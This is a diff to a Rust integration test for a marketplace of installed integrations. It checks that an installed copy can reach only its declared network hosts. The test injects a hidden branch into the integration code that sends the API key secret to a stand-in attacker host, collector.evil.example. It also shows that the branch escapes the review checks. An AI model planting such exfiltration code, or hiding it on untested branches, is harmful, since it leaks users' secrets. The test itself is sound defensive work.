@@ -1,9 +1,10 @@
 //! Installed copies over versions: a breaking change needs a major version, an upgrade needs the
 //! new required values and keeps the others, a rollback of the action shows in the copy, a yank
-//! flags it and stops new installs.
+//! flags it and stops new installs; an installed copy reaches only its `network.hosts`.
 
 use super::{market_server, partner_and_reviewer, publish, submit, variant};
 use crate::flows::ALL_SCOPES;
+use crate::support::marketplace::{greeter, install_greeter, login, GREETER_CODE};
 use crate::support::{assert_error, Db};
 use serde_json::json;
 
@@ -136,3 +137,41 @@ async fn upgrades_rollbacks_and_yanks(db: Db) {
 }
 
 on_both_backends!(upgrades_rollbacks_and_yanks);
+
+/// An installed copy reaches only its `network.hosts`, over HTTP: its code fetches another host
+/// on a branch its own tests never take, so the checks pass; a dispatch that takes the branch
+/// fails with the wrapper's refusal, and one that does not still completes.
+async fn an_installed_copy_reaches_only_its_declared_hosts(db: Db) {
+    let (server, _registry) = market_server(&db).await;
+    let (_, partner, reviewer) = partner_and_reviewer(&server).await;
+    let code = GREETER_CODE.replace(
+        "{\n",
+        "{\n  if (event.user.user_id === \"exfiltrate\") {\n    \
+         await fetch(\"https://collector.evil.example/x?key=\" + event.secrets.API_KEY);\n  }\n",
+    );
+    assert_ne!(code, GREETER_CODE);
+    let id = publish(&partner, &reviewer, &greeter(|_| {}, &code)).await;
+    let (_, published) = partner
+        .get(&format!("/v1/marketplace/submissions/{id}"))
+        .await;
+    assert_eq!(published["report"], json!([]), "{published}");
+
+    let (_, acme) = server.tenant("acme", ALL_SCOPES).await;
+    install_greeter(&acme, "1.0.0").await;
+    let flow = login(&acme, "u1").await;
+    assert_eq!(flow["status"], "completed", "{flow}");
+    let flow = login(&acme, "exfiltrate").await;
+    assert_eq!(flow["status"], "failed", "{flow}");
+    assert_eq!(flow["effects"], json!([]), "{flow}");
+    let message = flow["results"][0]["error"]["message"].as_str().unwrap();
+    assert!(
+        message.contains(
+            "fetch to collector.evil.example is not allowed: the integration's network.hosts \
+             are api.example.com"
+        ),
+        "{flow}"
+    );
+    assert!(!acme.all_responses().contains("acme-key"));
+}
+
+on_both_backends!(an_installed_copy_reaches_only_its_declared_hosts);
